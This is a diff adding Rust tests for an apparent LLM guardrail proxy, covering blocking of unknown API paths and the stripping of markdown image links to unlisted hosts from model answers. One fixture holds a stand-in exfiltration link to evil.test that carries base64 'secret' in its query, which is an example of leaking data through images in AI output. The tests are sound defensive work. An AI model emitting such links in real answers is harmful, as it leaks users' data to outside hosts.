@@ -215,12 +215,43 @@ async fn the_replica_is_not_asked_for_a_compressed_response() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn plain_text_and_unknown_paths_are_inspected_too() {
+async fn plain_text_is_inspected_too() {
     let stack = Plan::guarding(REDACTING).start().await;
     let raw = json!({"raw": {"headers": [["content-type", "text/plain"]], "body": format!("mail {EMAIL} now")}});
     let reply = stack.send(scripted(questions(false).remove(0), &raw)).await;
     assert_eq!(reply.text(), "mail [EMAIL] now");
     stack.assert_no_trap().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_sent_to_unknown_paths_is_inspected_unless_the_policy_passes_it() {
+    let ask = || Request::post("/v1/rerank").json(&json!({"query": EMAIL}));
+    let stack = Plan::guarding(BLOCKING).start().await;
+    let refused = stack.send(ask()).await;
+    assert_eq!(refused.status, 400);
+    assert_eq!(refused.json().unwrap()["error"]["code"], "content_policy_violation");
+    let passing = BLOCKING.replace("{rules: [{", "{unknown_paths: pass, rules: [{");
+    let stack = Plan::guarding(&passing).start().await;
+    // Left to the routes, none of which takes it.
+    assert_eq!(stack.send(ask()).await.status, 404);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn links_to_hosts_that_are_not_named_are_taken_out_of_answers() {
+    let stack = Plan::guardrail().start().await;
+    let text = "See ![own](https://img.example.com/x.png?d=1) and ![b](https://evil.test/x.png?d=c2VjcmV0).";
+    let expected = "See ![own](https://img.example.com/x.png?d=1) and ![b]([EXTERNAL_IMAGE]).";
+    let script = json!({"text": text, "chunk_chars": 3});
+    let [whole, streamed] = [false, true].map(|stream| questions(stream).remove(0));
+    let whole = stack.send(scripted(whole, &script)).await.json().unwrap();
+    assert_eq!(whole["choices"][0]["message"]["content"], expected);
+    let streamed = stack.send(scripted(streamed, &script)).await.text();
+    let data = streamed.lines().filter_map(|line| line.strip_prefix("data: "));
+    let events = data.filter_map(|event| serde_json::from_str::<Value>(event).ok());
+    let pieces = events.map(|event| {
+        event["choices"][0]["delta"]["content"].as_str().unwrap_or_default().to_owned()
+    });
+    assert_eq!(pieces.collect::<String>(), expected);
 }
 
 #[tokio::test(flavor = "multi_thread")]
